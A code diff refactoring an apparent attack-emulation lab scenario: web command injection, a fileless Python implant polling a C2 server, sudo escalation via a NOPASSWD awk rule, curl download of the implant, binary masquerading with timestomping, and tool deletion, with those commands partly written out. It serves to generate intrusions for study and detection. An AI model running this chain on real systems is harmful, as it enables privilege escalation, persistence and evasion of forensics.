@@ -12,20 +12,22 @@ from __future__ import annotations
 
 from provarmor.lab import techniques as t
 from provarmor.lab.context import LabContext
-from provarmor.lab.scenario import Action, Channel, Plan, Scenario, SetupFile, StepSpec
-from provarmor.lab.scenarios.implants import drop_dir, fileless_start, implant_payload
+from provarmor.lab.scenario import Action, Channel, Plan, Scenario, StepSpec
+from provarmor.lab.scenarios.implants import drop_dir, implant_payload
+from provarmor.lab.scenarios.steps import (
+    delete,
+    deletion_step,
+    download,
+    exploit_step,
+    implant_step,
+    start_implant,
+    sudo_rule,
+    web_exploit,
+)
 
 STEPS = (
-    StepSpec(
-        name="exploit",
-        summary="Command injection in the web application runs a shell as the web user.",
-        techniques=(t.EXPLOIT_PUBLIC_APP, t.UNIX_SHELL),
-    ),
-    StepSpec(
-        name="implant",
-        summary="A fileless Python implant starts and polls the C2 server over HTTP.",
-        techniques=(t.PYTHON, t.WEB_PROTOCOLS),
-    ),
+    exploit_step(),
+    implant_step(),
     StepSpec(
         name="sudo-escalation",
         summary="A NOPASSWD sudo rule for awk runs commands as root via system().",
@@ -53,11 +55,7 @@ STEPS = (
         "binary's timestamps.",
         techniques=(t.MASQUERADE_NAME, t.TIMESTOMP),
     ),
-    StepSpec(
-        name="delete-tools",
-        summary="The working directory is deleted.",
-        techniques=(t.FILE_DELETION,),
-    ),
+    deletion_step("delete-tools", "The working directory is deleted."),
 )
 
 
@@ -72,19 +70,13 @@ def plan(ctx: LabContext) -> Plan:
     account = ctx.names.pick(("sysadmin", "backup2", "support", "mysqld"))
     fake = f"/usr/local/sbin/{ctx.names.system_like()}"
     ops_history = f"{ctx.home(ctx.ops_user)}/.bash_history"
-    sudoers = f"/etc/sudoers.d/{ctx.names.pick(('reports', 'stats', 'logtools'))}"
+    sudoers = sudo_rule(ctx, files=("reports", "stats", "logtools"), program="/usr/bin/awk")
     return Plan(
-        setup_files=(
-            SetupFile(
-                path=sudoers,
-                mode=0o440,
-                content=f"{ctx.web.user} ALL=(root) NOPASSWD: /usr/bin/awk\n",
-            ),
-        ),
+        setup_files=(sudoers,),
         payloads=(implant,),
         actions=(
-            Action(step="exploit", channel=Channel.WEBSHELL, command="id; sudo -n -l"),
-            Action(step="implant", channel=Channel.WEBSHELL, command=fileless_start(ctx, implant)),
+            web_exploit("id; sudo -n -l"),
+            start_implant(ctx, implant),
             Action(
                 step="sudo-escalation",
                 channel=Channel.IMPLANT,
@@ -115,14 +107,13 @@ def plan(ctx: LabContext) -> Plan:
             Action(
                 step="masquerade-timestomp",
                 channel=Channel.IMPLANT,
-                command=f"mkdir -p {folder} && curl -s -o {folder}/a "
-                f"{ctx.payload_url(implant.path)} && "
+                command=f"{download(ctx, implant, f'{folder}/a')} && "
                 + _as_root(
                     f"cp {folder}/a {fake} && chmod 755 {fake} && "
                     f"touch -r /usr/bin/ls {fake} && ls -la --time-style=+%F {fake}"
                 ),
             ),
-            Action(step="delete-tools", channel=Channel.IMPLANT, command=f"rm -rf {folder}"),
+            delete("delete-tools", Channel.IMPLANT, folder),
         ),
         artifacts=(folder, fake),
     )
